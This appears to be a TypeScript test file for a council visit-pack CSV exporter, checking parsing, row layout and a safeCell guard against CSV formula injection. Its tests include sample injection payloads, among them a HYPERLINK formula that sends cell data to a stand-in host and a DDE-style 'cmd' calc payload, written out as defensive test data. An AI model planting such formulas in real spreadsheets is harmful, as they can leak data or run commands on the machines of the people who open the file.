import Papa from 'papaparse';
import { dashboardToCsv, PACK_CSV_COLUMNS, packToCsv, safeCell } from '../../../src/adapters/export/packCsv';
import { FOSTER_QUESTION, samplePack, VISITS, XSS } from './fixtures';

type Row = Record<string, string>;
const parse = (csv: string): Papa.ParseResult<Row> => Papa.parse<Row>(csv, { header: true, skipEmptyLines: true });

describe('packToCsv', () => {
  const pack = samplePack();
  const csv = packToCsv(pack, VISITS);
  const { data, errors, meta } = parse(csv);

  it('round-trips through papaparse with the documented columns', () => {
    expect(errors).toEqual([]);
    expect(meta.fields).toEqual([...PACK_CSV_COLUMNS]);
    expect(csv.startsWith('\uFEFF"section"') || csv.startsWith('\uFEFFsection')).toBe(true);
    expect(csv).toContain('\r\n');
  });

  it('has one row per statement, service response, theme, request, answer and appendix answer', () => {
    const appendixAnswers = pack.appendices.reduce(
      (n, a) => n + a.sections.reduce((m, s) => m + s.answers.length, 0),
      0
    );
    expect(data).toHaveLength(4 * 3 + 1 + (pack.themes?.themes.length ?? 0) + 2 * 2 + appendixAnswers);
    expect(new Set(data.map((r) => r.section))).toEqual(
      new Set([
        'Briefing information',
        'Service response to the findings',
        'Themes across the years',
        'Head of Service responses',
        ...pack.appendices.map((a, i) => `Appendix ${i + 1}: ${a.title}`)
      ])
    );
  });

  it('labels statements with their team, councillor and visit day', () => {
    const first = data[0];
    expect(first).toMatchObject({
      section: 'Briefing information',
      subsection: 'Quality of practice: strengths',
      visitId: '101',
      team: 'Cared for Children Team',
      councillor: 'Sarah Bennett-Wake',
      visitDay: '2025-07-14'
    });
    expect(first.text).toMatch(/^All staff are dedicated/);
  });

  it('has a row per theme raised at this meeting, with its scoped sentence', () => {
    const rows = data.filter((r) => r.section === 'Themes across the years');
    expect(rows.map((r) => r.subsection)).toEqual(['Workloads and caseloads']);
    expect(rows[0].text).toContain('This meeting: 3 statements');
    expect(rows[0].text).toContain('Same period last year (July 2024): none');
  });

  it('keeps commas, quotes and line breaks inside a cell', () => {
    const escalated = data.find((r) => r.subsection === 'Issues raised' && r.councillor === 'Sarah Bennett-Wake');
    expect(escalated?.text).toBe(
      `${FOSTER_QUESTION}\n\nDo we record travel time to out of area placements/visits? Is this paid back?`
    );
    expect(data.find((r) => r.subsection === 'Response' && r.councillor === 'Sarah Bennett-Wake')?.text).toBe(
      'Awaiting response'
    );
    const wyeForm = data.find((r) => r.councillor === 'Ben Wye' && r.subsection.startsWith('Issues to be escalated'));
    expect(wyeForm?.text.startsWith(XSS)).toBe(true); // <script>, quotes, & and ]]> survive as text
    expect(wyeForm).toMatchObject({ visitId: '103', visitDay: '2025-07-24' });
    const serviceResponse = data.find((r) => r.section === 'Service response to the findings');
    expect(serviceResponse?.text).toBe(pack.serviceResponse);
  });

  it('keeps ordinary bullet text as written: a typed "- " list marker becomes a bullet, never "\'-"', () => {
    const holland = data.find(
      (r) => r.councillor === 'Sally Ann Holland' && r.subsection === 'Quality of practice: strengths'
    );
    expect(holland?.text).toMatch(/^\u2022 Dip sampling/);
    expect(holland?.text).toContain('\n\u2022 Only two agency staff');
    expect(data.some((r) => r.text.startsWith("'-"))).toBe(false);
  });

  it('guards every cell a spreadsheet would run as a formula (CSV injection)', () => {
    const payloads = [
      '=HYPERLINK("https://evil.example?"&A1)',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1,1)',
      '\t=1+1',
      '\r=1+1',
      '-1'
    ];
    for (const p of payloads) expect({ p, cell: safeCell(p) }).toEqual({ p, cell: `'${p}` });
    // A marker followed by a formula is a bullet holding text: it cannot run either.
    expect(safeCell('- =1+1')).toBe('\u2022 =1+1');
    expect(safeCell('Plain text - with a dash')).toBe('Plain text - with a dash');
  });

  it('infers team and day from the appendices when visits are not passed', () => {
    const rows = parse(packToCsv(pack)).data;
    expect(rows[0]).toMatchObject({ visitId: '101', team: 'Cared for Children Team', visitDay: '2025-07-14' });
    // A councillor with two forms in the pack is ambiguous; a head-of-service row still names the team.
    const twice = (i: number) => ({ ...pack.appendices[i], teamName: 'Another Team' });
    const twoForms = parse(packToCsv({ ...pack, appendices: [...pack.appendices, twice(0), twice(1)] })).data;
    expect(twoForms[1]).toMatchObject({ councillor: 'Sally Ann Holland', team: '', visitDay: '' });
    expect(twoForms[0]).toMatchObject({
      councillor: 'Sarah Bennett-Wake',
      team: 'Cared for Children Team',
      visitDay: ''
    });
  });

  it('can leave out the byte order mark', () => {
    expect(packToCsv(pack, VISITS, { bom: false }).charCodeAt(0)).not.toBe(0xfeff);
  });
});

describe('safeCell (CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 1270 000000', "'+44 1270 000000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['=HYPERLINK("https://evil.example?"&A1)\nsecond line', '\'=HYPERLINK("https://evil.example?"&A1)\nsecond line'],
    ['plain text', 'plain text'],
    ['a = b', 'a = b'],
    ['', '']
  ])('%j becomes %j', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
  });

  it('leaves numbers as numbers (a number cannot be a formula) and empties missing values', () => {
    expect(safeCell(-3)).toBe(-3);
    expect(safeCell(undefined)).toBe('');
    expect(safeCell(null)).toBe('');
    expect(safeCell(Number.NaN)).toBe('');
  });
});

describe('dashboardToCsv', () => {
  const rows = [
    { team: 'Court Team, Crewe', visits: 2, overdue: -1, note: '=IMPORTXML("x")' },
    { team: 'He said "hello"\nthen left', visits: 0 }
  ];

  it('writes the columns in order with their headers, guarded and round-trippable', () => {
    const csv = dashboardToCsv(rows, [
      { key: 'team', header: 'Team' },
      'visits',
      { key: 'note', header: 'Note' },
      'overdue'
    ]);
    const { data, errors, meta } = parse(csv);
    expect(errors).toEqual([]);
    expect(meta.fields).toEqual(['Team', 'visits', 'Note', 'overdue']);
    expect(data).toEqual([
      { Team: 'Court Team, Crewe', visits: '2', Note: '\'=IMPORTXML("x")', overdue: '-1' },
      { Team: 'He said "hello"\nthen left', visits: '0', Note: '', overdue: '' }
    ]);
  });

  it('guards a header that looks like a formula too', () => {
    const { meta } = parse(dashboardToCsv([{ a: 1 }], [{ key: 'a', header: '=cmd' }]));
    expect(meta.fields).toEqual(["'=cmd"]);
  });
});
